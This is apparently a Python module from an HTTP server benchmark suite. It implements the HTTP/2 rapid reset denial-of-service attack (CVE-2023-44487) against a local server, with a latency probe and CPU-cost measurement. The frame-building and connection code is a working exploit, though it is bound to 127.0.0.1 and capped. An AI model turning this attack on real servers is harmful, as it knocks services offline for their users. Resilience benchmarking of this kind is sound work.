"""H2's `reset` variant: the HTTP/2 rapid reset (CVE-2023-44487) against a
server's HTTPS listener, with a probe beside it.

The attacker (attack(), run in a process of its own: `python3 -m
suite.rapid_reset --port P` from bench/) opens a TLS connection that
chooses h2 by ALPN, sends the client preface and an empty SETTINGS, then
PAIRS pairs as fast as it can: a HEADERS frame (END_HEADERS|END_STREAM,
GET https://127.0.0.1:P/files/100.bin, a fixed HPACK block of static-table
indexes and literals never added to the dynamic table) and an RST_STREAM
(CANCEL) on the same new odd stream. The frames are written by hand
(struct) through an ssl.SSLObject over a non-blocking socket: it writes
while the socket takes bytes and reads (and drops) whatever the server
sends all along, so it never waits on a full socket; it acknowledges the
server's SETTINGS and notes its GOAWAYs and RST_STREAMs. When the server
ends the connection (a GOAWAY, a close or a reset) before all the pairs
are sent, it opens another and goes on until PAIRS have been sent in all
(a pair counts once the kernel has taken all of its bytes). After the
last pair it sends a PING and waits for its ACK (or the end of the
connection): the server has then read everything. It prints one JSON
line: pairs sent, pairs the server took (on a connection it ended with
a GOAWAY, those up to the GOAWAY's last stream id: the kernel's buffers
take thousands of pairs more before the GOAWAY is read, which the server
drops unread), connections, pairs on the first connection, GOAWAY codes,
and its start and end (time.monotonic(), the system's CLOCK_MONOTONIC, so
the suite can compare them with its own).

The probe (Probe, a thread of the suite): plain HTTPS GETs of
/files/100.bin, HTTP/1.1 keep-alive on one connection of its own (no
ALPN h2), one after the other with PAUSE between them, each timed; a
failure is counted and the next probe opens a new connection. The
latencies kept are those of the probes in flight during the attack; the
failures, any before its end (the first request, which makes the
connection, included).

run() is one server's run in a round: the probe's connection made, the
attacker started (it waits for a word from the suite), the server's CPU
time read (proc.cpu_ns: every thread of its process tree, to the
nanosecond; an attack costs a server a few of /proc/PID/stat's 10 ms
ticks), the attack and the probes begun, the CPU time read again once
the attacker has exited. The probes' own requests are in that time too
(a handful, against the attack's thousands of streams)."""

import json
import os
import select
import socket
import ssl
import statistics
import struct
import subprocess
import sys
import threading
import time

from . import proc

PAIRS = 10000
PATH = "/files/100.bin"
PAUSE = 0.005           # seconds between two probes
BATCH = 64              # pairs written to the TLS layer at a time
MAX_CONNECTIONS = 2000  # the attacker gives up past this many connections
DEADLINE = 60.0         # seconds the attacker may take in all
STALL = 10.0            # seconds without progress that end a connection
TOOL = "rapid-reset"

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# frame types and flags (RFC 9113 §6)
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 1, 3, 4, 6, 7
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
               "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM",
               "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
               "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
PING_DATA = b"rr-done!"


def error_name(code):
    return ERROR_NAMES[code] if code < len(ERROR_NAMES) else "0x%x" % code


def frame(ftype, flags, stream, payload=b""):
    """A frame: 24-bit length, type, flags, 31-bit stream id, payload."""
    return struct.pack(">IBI", (len(payload) << 8) | ftype, flags, stream) + payload


def header_block(port, path=PATH):
    """GET https://127.0.0.1:port/path in HPACK (RFC 7541): :method GET (static
    index 2) and :scheme https (7) indexed; :path (4) and :authority (1) as
    literals without indexing, so every request's block is the same and
    the server's dynamic table stays empty."""
    authority = ("127.0.0.1:%d" % port).encode()

    def literal(index, value):
        assert index < 15 and len(value) < 127
        return bytes([index, len(value)]) + value
    return b"\x82\x87" + literal(4, path.encode()) + literal(1, authority)


def pairs_bytes(block, first_stream, n):
    """n pairs of HEADERS (END_HEADERS|END_STREAM) and RST_STREAM (CANCEL) on
    the streams first_stream, first_stream + 2, ..."""
    head = (len(block) << 8) | HEADERS
    rst = (4 << 8) | RST_STREAM
    out = []
    for sid in range(first_stream, first_stream + 2 * n, 2):
        out.append(struct.pack(">IBI", head, END_HEADERS | END_STREAM, sid))
        out.append(block)
        out.append(struct.pack(">IBII", rst, 0, sid, CANCEL))
    return b"".join(out)


def tls_context(alpn):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols([alpn])
    return ctx


class Connection:
    """One attacker connection: a non-blocking socket under an SSLObject
    (memory BIOs), so that writing never waits on the socket."""

    def __init__(self, port, ctx, timeout=10.0):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.inc, self.outg = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = ctx.wrap_bio(self.inc, self.outg, server_side=False)
        # the handshake, blocking (bounded by the socket's timeout)
        while True:
            try:
                self.tls.do_handshake()
                done = True
            except ssl.SSLWantReadError:
                done = False
            data = self.outg.read()
            if data:
                self.sock.sendall(data)
            if done:
                break
            data = self.sock.recv(65536)
            if not data:
                raise ConnectionError("closed during the TLS handshake")
            self.inc.write(data)
        if self.tls.selected_alpn_protocol() != "h2":
            raise ConnectionError("ALPN chose %r, not h2" % self.tls.selected_alpn_protocol())
        self.sock.setblocking(False)
        self.pending = b""  # ciphertext the socket has not taken yet
        self.rbuf = bytearray()
        self.ended = None   # how a write found the connection ended

    def put(self, plain):
        """Encrypts plain and queues it behind what the socket has not taken."""
        self.tls.write(plain)
        self.pending += self.outg.read()

    def flush(self):
        """Writes what the socket takes now; True when nothing is left. A
        connection the server has closed sets `ended` and drops the rest."""
        while self.pending:
            try:
                n = self.sock.send(self.pending)
            except (BlockingIOError, InterruptedError):
                return False
            except OSError as e:
                self.ended = "reset" if isinstance(e, ConnectionResetError) else \
                    "send: %s" % (e.strerror or e)
                self.pending = b""
                return False
            self.pending = self.pending[n:]
        return True

    def receive(self):
        """Reads what the socket holds; returns (frames, end): the complete
        frames as (type, flags, stream, payload) and None, or the way the
        connection ended ("closed", "reset", "close_notify")."""
        end = None
        while True:
            try:
                data = self.sock.recv(262144)
            except (BlockingIOError, InterruptedError):
                break
            except ConnectionResetError:
                end = "reset"
                break
            except OSError as e:
                end = "recv: %s" % (e.strerror or e)
                break
            if not data:
                end = "closed"
                break
            self.inc.write(data)
        while True:
            try:
                plain = self.tls.read(262144)
            except ssl.SSLWantReadError:
                break
            except ssl.SSLZeroReturnError:
                end = end or "close_notify"
                break
            except ssl.SSLError as e:
                end = end or "tls error: %s" % e.reason
                break
            if not plain:
                break
            self.rbuf += plain
        frames, at = [], 0
        while len(self.rbuf) - at >= 9:
            length = int.from_bytes(self.rbuf[at:at + 3], "big")
            if len(self.rbuf) - at < 9 + length:
                break
            ftype, flags = self.rbuf[at + 3], self.rbuf[at + 4]
            stream = int.from_bytes(self.rbuf[at + 5:at + 9], "big") & 0x7FFFFFFF
            frames.append((ftype, flags, stream, bytes(self.rbuf[at + 9:at + 9 + length])))
            at += 9 + length
        del self.rbuf[:at]
        return frames, end

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def attack(port, pairs=PAIRS, deadline=DEADLINE, max_connections=MAX_CONNECTIONS):
    """The attack: see the module's text. Returns its figures as a dict."""
    ctx = tls_context("h2")
    block = header_block(port)
    out = {"pairs": 0, "taken": 0, "connections": 0, "first_conn_pairs": None,
           "first_last_stream": None, "goaway": {}, "ends": {}, "server_resets": {},
           "answered": 0, "ping_acked": False, "note": ""}
    t0 = time.monotonic()
    out["start"] = t0
    end_by = t0 + deadline
    while out["pairs"] < pairs and out["connections"] < max_connections:
        if time.monotonic() > end_by:
            out["note"] = "deadline of %g s reached" % deadline
            break
        try:
            c = Connection(port, ctx)
        except (OSError, ssl.SSLError) as e:
            out["note"] = "connection %d: %s" % (out["connections"] + 1, e)
            break
        out["connections"] += 1
        sent, how, last = _one_connection(c, block, pairs - out["pairs"], out, end_by)
        c.close()
        out["pairs"] += sent
        # the pairs the server took: up to its GOAWAY's last stream, else
        # (no GOAWAY) all those sent
        out["taken"] += min(sent, (last + 1) // 2) if last is not None else sent
        out["ends"][how] = out["ends"].get(how, 0) + 1
        if out["first_conn_pairs"] is None:
            out["first_conn_pairs"] = sent
    if out["pairs"] < pairs and not out["note"]:
        out["note"] = "stopped after %d connections" % out["connections"]
    out["end"] = time.monotonic()
    out["seconds"] = out["end"] - t0
    return out


def _one_connection(c, block, want, out, end_by):
    """Sends up to `want` pairs on c; returns (pairs sent, how it ended,
    the last stream id of the server's GOAWAY or None); how: "goaway
    CODE", "closed", "reset", "ping" (all sent and the PING answered),
    "stalled" or "deadline"."""
    c.put(PREFACE + frame(SETTINGS, 0, 0))
    stream, sent, batch, pinged = 1, 0, 0, False
    poll = select.poll()
    last_progress = time.monotonic()
    while True:
        # what the server sent
        frames, end = c.receive()
        for ftype, flags, sid, payload in frames:
            if ftype == SETTINGS and not flags & ACK:
                c.put(frame(SETTINGS, ACK, 0))
            elif ftype == HEADERS:
                out["answered"] += 1
            elif ftype == RST_STREAM and len(payload) == 4:
                name = error_name(int.from_bytes(payload, "big"))
                out["server_resets"][name] = out["server_resets"].get(name, 0) + 1
            elif ftype == PING and flags & ACK and payload == PING_DATA:
                out["ping_acked"] = True
                return sent, "ping", None
            elif ftype == GOAWAY and len(payload) >= 8:
                last = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                name = error_name(int.from_bytes(payload[4:8], "big"))
                out["goaway"][name] = out["goaway"].get(name, 0) + 1
                if out["first_last_stream"] is None:
                    out["first_last_stream"] = last
                return sent, "goaway " + name, last
        if end:
            return sent, end, None
        # what is left to send: the next batch once the socket has taken
        # the last one (a batch's pairs count as sent when it has)
        if c.flush():
            if batch:
                sent += batch
                batch = 0
                last_progress = time.monotonic()
            if sent < want:
                batch = min(BATCH, want - sent)
                c.put(pairs_bytes(block, stream, batch))
                stream += 2 * batch
                if c.flush():
                    sent += batch
                    batch = 0
                    last_progress = time.monotonic()
            elif not pinged:
                c.put(frame(PING, 0, 0, PING_DATA))
                pinged = True
                c.flush()
        if c.ended:
            return sent, c.ended, None
        now = time.monotonic()
        if now > end_by:
            return sent, "deadline", None
        if now - last_progress > STALL:
            return sent, "stalled", None
        if c.pending or sent >= want:
            # wait for room in the socket, or for the server's answer
            poll.register(c.sock, select.POLLIN | (select.POLLOUT if c.pending else 0))
            poll.poll(100)


class Probe(threading.Thread):
    """GET PATH over HTTPS (HTTP/1.1, keep-alive), one after the other with
    PAUSE between them, until stop(): samples (start, seconds), failures
    (start, what)."""

    def __init__(self, port, path=PATH, size=100, timeout=5.0):
        super().__init__(daemon=True)
        self.port, self.path, self.size, self.timeout = port, path, size, timeout
        self.ctx = tls_context("http/1.1")
        self.samples, self.failures = [], []
        self.ready = threading.Event()  # its connection made
        self.go = threading.Event()     # set when the attack starts
        self.halt = threading.Event()
        self.sock = None
        self.buf = b""

    def _connect(self):
        raw = socket.create_connection(("127.0.0.1", self.port), timeout=self.timeout)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = self.ctx.wrap_socket(raw)
        self.buf = b""

    def _get(self):
        """One request and its whole answer; raises on a failure."""
        if self.sock is None:
            self._connect()
        self.sock.sendall(b"GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (
            self.path.encode(), self.port))
        while b"\r\n\r\n" not in self.buf:
            self._more()
        head, self.buf = self.buf.split(b"\r\n\r\n", 1)
        lines = head.split(b"\r\n")
        if not lines[0].startswith(b"HTTP/1.1 200"):
            raise ValueError("answer %r" % lines[0][:40])
        length = None
        for line in lines[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value)
        if length != self.size:
            raise ValueError("Content-Length %r" % length)
        while len(self.buf) < length:
            self._more()
        self.buf = self.buf[length:]

    def _more(self):
        data = self.sock.recv(65536)
        if not data:
            raise ConnectionError("closed by the server")
        self.buf += data

    def run(self):
        try:
            self._get()  # the connection and its handshake, not a sample
        except (OSError, ValueError, ssl.SSLError) as e:
            self.failures.append((time.monotonic(), "first request: %s" % e))
            self._drop()
        self.ready.set()
        self.go.wait()
        while not self.halt.is_set():
            t = time.monotonic()
            try:
                self._get()
                self.samples.append((t, time.monotonic() - t))
            except (OSError, ValueError, ssl.SSLError) as e:
                self.failures.append((t, str(e) or type(e).__name__))
                self._drop()
            self.halt.wait(PAUSE)
        self._drop()

    def _drop(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
        self.sock = None

    def stop(self):
        self.halt.set()
        self.go.set()
        self.join(self.timeout + 5)


def pairs_wanted():
    """PAIRS, or BENCH_H2_RESET_PAIRS when set (a longer attack gives the
    probe more samples)."""
    raw = os.environ.get("BENCH_H2_RESET_PAIRS", "").strip()
    return int(raw) if raw else PAIRS


def run(suite, s, rnd, pairs=None):
    """One run of the variant on server s (its HTTPS listener up); records
    the row (workload H2, variant reset) and prints its line."""
    pairs = pairs or pairs_wanted()
    bench = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    cmd = [sys.executable, "-m", "suite.rapid_reset", "--port", str(s.tls_port),
           "--pairs", str(pairs)]
    res = {"status": "ok", "note": "", "cmd": "(cd bench && %s)" % " ".join(
        ["python3"] + cmd[1:])}
    probe = Probe(s.tls_port)
    probe.start()
    probe.ready.wait(15)
    # the attacker started and its modules loaded (--wait: it says "ready"
    # and waits for a line), so that the CPU time read next is the
    # server's just before the attack, and the probe starts with it
    p = subprocess.Popen(cmd + ["--wait"], cwd=bench, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, stdin=subprocess.PIPE, text=True)
    p.stdout.readline()
    n0, tids0 = proc.cpu_ns(s.pid)
    c0 = proc.cpu_seconds(s.pid)
    probe.go.set()
    try:
        p.stdin.write("go\n")
        p.stdin.flush()
    except OSError:
        pass  # it has exited: its error is read below
    try:
        out, err = p.communicate(timeout=DEADLINE + 30)
    except subprocess.TimeoutExpired:
        p.kill()
        out, err = p.communicate()
        res.update(status="timeout", note="the attacker ran past %g s" % (DEADLINE + 30))
    n1, tids1 = proc.cpu_ns(s.pid)
    c1 = proc.cpu_seconds(s.pid)
    probe.stop()
    a = None
    try:
        a = json.loads(out.strip().splitlines()[-1])
    except (ValueError, IndexError):
        if res["status"] == "ok":
            res.update(status="failed", note="attacker exit %s: %s" % (
                p.returncode, (err.strip() or out.strip())[-200:]))
    if a:
        res.update(pairs=a["pairs"], taken=a["taken"], attack_connections=a["connections"],
                   first_conn_pairs=a["first_conn_pairs"],
                   first_last_stream=a["first_last_stream"], attack_s=a["seconds"],
                   answered=a["answered"],
                   goaway=_counts(a["goaway"]) or "none",
                   server_resets=_counts(a["server_resets"]) or "none",
                   ends=_counts(a["ends"]))
        # the server's CPU time for the attack: the threads' own sums (ns),
        # unless a thread ended meanwhile (its time is then gone from the
        # sum): then /proc/PID/stat's, in clock ticks
        if c0 is not None and c1 is not None:
            res["attack_cpu_us_ticks"] = (c1 - c0) * 1e6
        if n0 is not None and n1 is not None and tids0 <= tids1:
            res["attack_cpu_us"] = (n1 - n0) / 1e3
        elif "attack_cpu_us_ticks" in res:
            res["attack_cpu_us"] = res["attack_cpu_us_ticks"]
            res["note"] = "a thread ended during the attack: CPU time in clock ticks"
        if res.get("attack_cpu_us") is not None and a["pairs"]:
            res["cpu_us"] = res["attack_cpu_us"] / a["pairs"]
        # the probes in flight during the attack
        t0, t1 = a["start"], a["end"]
        lat = [d for t, d in probe.samples if t < t1 and t + d > t0]
        fails = [w for t, w in probe.failures if t < t1]
        res["probes"] = len(lat) + len(fails)
        res["probe_failures"] = len(fails)
        if lat:
            res["probe_p50_ms"] = statistics.median(lat) * 1e3
            res["probe_max_ms"] = max(lat) * 1e3
        if a["pairs"] < pairs and res["status"] == "ok":
            res.update(status="incomplete", note=a["note"])
        elif fails and res["status"] == "ok":
            res.update(status="errors", note="probe: %s" % fails[0])
    if not s.alive():
        res.update(status="crashed", note="server %s: %s" % (
            proc.exit_text(s.proc.returncode), s.log_tail()))
    suite.results.append(dict({"workload": "H2", "variant": "reset", "server": s.name,
                               "round": rnd, "tool": TOOL}, **res))
    suite.commands.setdefault(("H2", "reset", s.name, TOOL), res["cmd"])

    def num(k, fmt):
        return fmt % res[k] if res.get(k) is not None else "-"
    suite.say("  H2    reset     %-10s %s pairs (%s taken), %s conns (first %s; GOAWAY %s), "
              "%s us CPU (%s us/pair) in %s ms; probes %s, p50 %s ms, max %s ms, %s failed%s" % (
                  s.name, num("pairs", "%d"), num("taken", "%d"), num("attack_connections", "%d"),
                  num("first_conn_pairs", "%d"), res.get("goaway", "-"),
                  num("attack_cpu_us", "%.0f"), num("cpu_us", "%.2f"),
                  "%.0f" % (res["attack_s"] * 1e3) if res.get("attack_s") is not None else "-",
                  num("probes", "%d"), num("probe_p50_ms", "%.2f"), num("probe_max_ms", "%.1f"),
                  num("probe_failures", "%d"),
                  "" if res["status"] == "ok" else " [%s] %s" % (res["status"],
                                                                res["note"][:150])))
    return res


def _counts(d):
    """{"ENHANCE_YOUR_CALM": 10} as "ENHANCE_YOUR_CALM x10"."""
    return ", ".join("%s x%d" % (k, v) for k, v in sorted(d.items()))


def main(argv=None):
    import argparse
    ap = argparse.ArgumentParser(prog="python3 -m suite.rapid_reset",
                                 description="HTTP/2 rapid reset (CVE-2023-44487) against "
                                 "127.0.0.1:PORT over TLS; prints one JSON line")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--pairs", type=int, default=PAIRS)
    ap.add_argument("--deadline", type=float, default=DEADLINE)
    ap.add_argument("--wait", action="store_true",
                    help="print 'ready', then start when a line comes on stdin")
    a = ap.parse_args(argv)
    if a.wait:
        print("ready", flush=True)
        sys.stdin.readline()
    print(json.dumps(attack(a.port, a.pairs, a.deadline)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
